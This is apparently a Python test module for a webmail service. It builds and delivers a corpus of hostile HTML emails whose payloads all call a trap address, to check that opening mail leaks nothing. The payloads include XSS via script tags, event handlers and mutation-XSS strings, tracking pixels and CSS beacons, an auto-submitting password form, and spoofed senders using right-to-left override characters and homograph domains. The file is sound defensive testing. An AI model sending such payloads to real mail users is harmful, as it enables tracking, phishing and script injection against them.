"""Hostile mail: what a stranger writes so that whoever opens it tells them something. All of it names one address, where a trap listens.

`python -m tests.browser.corpus TRAP` puts it into the mailbox of a resident of the data folder that STADTMAIL_DATA names.
"""

import base64
import os
import sys
from collections.abc import Iterator

ADDRESS, PASSWORD = "karla.k@ahaus.net", "ein langer Satz 7"
_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{at}/svg\')"><image href="{at}/svg-image"/>'
    '<script>fetch("{at}/s")</script></svg>'
)
BODIES = {
    "script": '<script src="{at}/a.js"></script><script>fetch("{at}/b")</script><img src=x onerror="fetch(\'{at}/c\')">'
    '<body onload="fetch(\'{at}/d\')">',
    "css": "<style>@import url({at}/a.css);@font-face{{font-family:x;src:url({at}/f)}}body{{background:url({at}/b)}}</style>"
    '<link rel="stylesheet" href="{at}/c.css"><p style="background:u\\72l({at}/d);font-family:x">x</p>'
    '<p style="background-image:image-set(\'{at}/e\' 1x);content:url({at}/g);cursor:url({at}/h),auto;'
    "width:expression(fetch('{at}'))\">y</p>",
    "svg": _SVG + '<img src="data:image/svg+xml;base64,{svg}"><object data="data:image/svg+xml;base64,{svg}"></object>'
    '<embed src="{at}/e.svg">',
    "refresh": '<meta http-equiv="refresh" content="0;url={at}/refresh"><meta http-equiv="Link" content="&lt;{at}/l&gt;; rel=preload">'
    '<base href="{at}/"><a href="x">y</a><link rel="prefetch" href="{at}/p"><link rel="dns-prefetch" href="{at}">'
    '<link rel="icon" href="{at}/i">',
    "form": '<form action="{at}/form" method="post"><input name="password" autofocus onfocus="this.form.submit()">'
    '<button formaction="{at}/b">x</button></form><input type="image" src="{at}/image"><isindex action="{at}/i">',
    "pixels": '<img src="{at}/1"><img srcset="{at}/2 1x, {at}/3 2x"><picture><source srcset="{at}/4"><img></picture>'
    '<video poster="{at}/5" src="{at}/6" autoplay></video><audio src="{at}/7" autoplay></audio><table background="{at}/8">'
    '<tr><td background="{at}/9">x</table><iframe src="{at}/10" srcdoc="<img src={at}/11>"></iframe>'
    '<object data="{at}/12"></object><body background="{at}/13"><img src="{bare}/14">',
    "mutations": '<noscript><p title="</noscript><img src={at}/m onerror=fetch(\'{at}/m1\')>"></noscript><math><mtext><table>'
    '<mglyph><style><img src={at}/m2 onerror=fetch()></style></table></mtext></math><svg></p><style>'
    '<a id="</style><img src={at}/m3>"></svg><template><img src="{at}/m4"></template><textarea><img src="{at}/m5">'
    '</textarea><!--><img src="{at}/m6">--><![CDATA[<img src="{at}/m7">]]>',
    "cid": '<img src="cid:{at}/cid"><img src="cid:logo"><img src=" &#x68;ttp:{bare}/e"><img src="\t{at}/t">'
    '<img src="CID:../../abmelden"><img src="/abmelden"><img src="javascript:fetch(\'{at}\')">'
    '<a href="javascript:fetch(\'{at}\')">x</a><img src="view-source:{at}/v">',
    "long": "<div><p style='color:red'>lang</p><img src='{at}/long'></div>",
}  # fmt: skip
HEADERS = {
    "names": ("=?utf-8?q?=E2=80=AEten=2Esuaha=40oreub=E2=80=AC?= <x@evil.example>", "=?utf-8?q?=E2=80=AEgnp=2Eexe_=3Cimg_src={at}/s=3E?="),
    "homographs": ("Stаdt Аhaus <info@аhaus.net>", "Ihr Bescheid"),
    "markup": ('"<img src={at}/name>" <"<script>fetch(1)</script>"@evil.example>', "<img src={at}/subject onerror=alert(1)>"),
}


def mails(at: str) -> Iterator[bytes]:
    """Every message of the corpus; `at`: the address of the trap."""
    given = {"at": at, "bare": at.partition(":")[2]}
    given["svg"] = base64.b64encode(_SVG.format(**given).encode()).decode()
    for name, body in BODIES.items():
        html = body.format(**given) * (10 * 1024 * 1024 // 60 if name == "long" else 1)
        yield _letter("Karl <karl@evil.example>", name, f"<html><body>{html}</body></html>", at)
    for sender, subject in HEADERS.values():
        yield _letter(sender.format(**given), subject.format(**given), "<p>kurz</p>", at)


def _letter(sender: str, subject: str, html: str, at: str) -> bytes:
    """HTML with a picture of its own whose place is elsewhere, an SVG that calls itself a PNG, and headers that programs follow."""
    svg = base64.b64encode(_SVG.format(at=at).encode()).decode()
    head = [
        f"From: {sender}", f"To: {ADDRESS}", f"Subject: {subject}", f"Disposition-Notification-To: {sender}",
        f"List-Unsubscribe: <{at}/list>", f"Content-Location: {at}/place", "MIME-Version: 1.0",
        'Content-Type: multipart/related; boundary="b"', "",
    ]  # fmt: skip
    parts = [
        "--b", "Content-Type: text/html; charset=utf-8", f"Content-Base: {at}/", "", html,
        "--b", "Content-Type: image/svg+xml", "Content-ID: <logo>", f"Content-Location: {at}/logo",
        "Content-Transfer-Encoding: base64", "", svg,
        "--b", "Content-Type: image/png", 'Content-Disposition: attachment; filename="bild.png"',
        "Content-Transfer-Encoding: base64", "", svg,
        "--b", f'Content-Type: message/external-body; access-type=URL; URL="{at}/external"', "", "", "--b--", "",
    ]  # fmt: skip
    return "\r\n".join([*head, *parts]).encode()


def main() -> None:
    """Open the mailbox and put everything into it."""
    os.environ["DJANGO_SETTINGS_MODULE"] = "stadtmail.settings"
    import django

    django.setup()
    from stadtmail.kit import clock
    from stadtmail.tenants import queries as tenants
    from tests.doors.web import cast

    now = clock.now()
    cast.resident(tenants.city_of_domain("ahaus.net"), ADDRESS.partition("@")[0], now)
    for raw in mails(sys.argv[1]):
        cast.deliver(raw, ADDRESS, now=now)


if __name__ == "__main__":
    main()
